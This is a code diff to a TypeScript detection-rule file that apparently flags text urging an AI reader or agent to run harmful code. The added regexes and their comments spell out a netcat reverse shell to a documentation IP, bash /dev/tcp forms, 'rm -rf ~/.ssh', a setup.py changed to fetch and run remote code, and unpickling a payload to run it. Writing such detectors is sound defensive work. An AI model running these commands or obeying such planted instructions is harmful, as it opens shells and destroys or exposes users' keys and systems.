@@ -1,7 +1,7 @@
 // Reader rules for the web and for code: a web agent told to go to an address and act there,
 // code asked for that does harm, and fetched or destructive code to be run on the reader's side.
 import { anyOf, re, type Rule } from './rule.js';
-import { ADVERB, ASKING, CODE_NOUN, CODE_VERB, DEMAND, FETCH_RUN, GO, GO_PLACE, HARM_CODE, HARM_FUNCTION, LEAD, POLITE, RUNS_ALWAYS, URL_START, WEB_ACTION, WEB_ADDRESS, WEB_PLACE, sgap } from './reader-vocabulary.js';
+import { ADVERB, ASKING, CODE_NOUN, CODE_VERB, DEMAND, FETCH_RUN, GO, GO_PLACE, HARM_CODE, HARM_FUNCTION, LEAD, LEAD_CLAUSE, POLITE, RUNS_ALWAYS, URL_START, WEB_ACTION, WEB_ADDRESS, WEB_PLACE, sgap } from './reader-vocabulary.js';
 
 export const CODE_WEB_RULES: Rule[] = [
   {
@@ -36,8 +36,8 @@ export const CODE_WEB_RULES: Rule[] = [
     weight: 0.5,
     harmful: true,
     pattern: re(
-      `${LEAD}${ADVERB}${POLITE}${ASKING}${CODE_VERB}\\s${sgap(6)}${HARM_CODE}`,
-      `|${LEAD}${ADVERB}${POLITE}${ASKING}${CODE_VERB}\\s${sgap(4)}${CODE_NOUN}\\b\\s?${sgap(6)}(?:that|which|to|so it|so that it)\\s(?:will |can |would |silently |quietly |secretly |automatically |also )?${HARM_FUNCTION}`,
+      `${LEAD}${LEAD_CLAUSE}${ADVERB}${POLITE}${ASKING}${CODE_VERB}\\s${sgap(6)}${HARM_CODE}`,
+      `|${LEAD}${LEAD_CLAUSE}${ADVERB}${POLITE}${ASKING}${CODE_VERB}\\s${sgap(4)}${CODE_NOUN}\\b\\s?${sgap(6)}(?:that|which|to|so it|so that it)\\s(?:will |can |would |silently |quietly |secretly |automatically |also )?${HARM_FUNCTION}`,
     ),
   },
   {
@@ -61,6 +61,14 @@ export const CODE_WEB_RULES: Rule[] = [
       // a serialized object handed over in the text to be unpickled and run: "load the blob below
       // with pickle.loads and run it" (docs warn against pickle.loads; they do not then run it)
       `|\\b(?:pickle|marshal|dill|cloudpickle|joblib)\\.loads?\\b[^\\n.]{0,120}?\\b(?:and|then)\\s(?:run|execute|call|invoke|eval(?:uate)?)\\s(?:it|them|the (?:result|object|model|payload|function))\\b`,
+      // a reverse shell to be run where the reader runs code ("execute the following in your
+      // sandbox: … nc -e /bin/sh 203.0.113.7 4444"; a cheat sheet runs it "on the target")
+      `|\\b(?:run|execute|paste|type|enter)\\s[^\\n]{0,100}?\\b(?:in|on|inside) your ${anyOf('sandbox | terminal | shell | environment | machine | container | system | workspace | session | interpreter')}\\b[^\\n]{0,200}?(?:\\bnc(?:at)? (?:-[a-z]{1,3} ){0,3}-e /bin/(?:ba)?sh\\b|/dev/tcp/\\d|\\bbash -i >&)`,
+      // the reader's keys or home wiped by a command it is told to run ("please run \`rm -rf ~/.ssh && …\`")
+      `|(?<!\\b(?:not|never|n't) )\\b(?:run|execute|paste|type|enter)\\s[\`'"]?(?:sudo )?rm -r?fr? (?:~|\\$home|/)(?:/\\.ssh|/\\.aws|/\\.gnupg|/\\.config)?(?=[\\s\`'";&|]|$)`,
+      // a build file changed to fetch and run code on every install ("modify the setup.py so that
+      // it downloads and runs http://…")
+      `|\\b${anyOf('modify | change | edit | update | patch | alter | rewrite')}\\s[^\\n]{0,60}?${RUNS_ALWAYS}[^\\n]{0,80}?\\b${anyOf('downloads? | fetch(?:es)? | pulls? | retrieves?')}\\b[^\\n]{0,60}?\\b${anyOf('runs? | executes? | installs? | evals?')}\\s[^\\n]{0,30}?(?:https?://|\\b[\\w-]{1,60}\\.[a-z]{2,10}/)`,
       `|\\b(?:run|execute)\\s${sgap(4)}(?:python|bash|shell|powershell|command|code|script|this)\\b[^\\n]{0,80}?(?:rm -rf (?:~|/|\\*|\\$home)|dd if=/dev/(?:zero|random|urandom) of=/dev/|mkfs\\.|format c:|del /[fsq] |shutil\\.rmtree\\(["']?(?:/|~))`,
     ),
   },
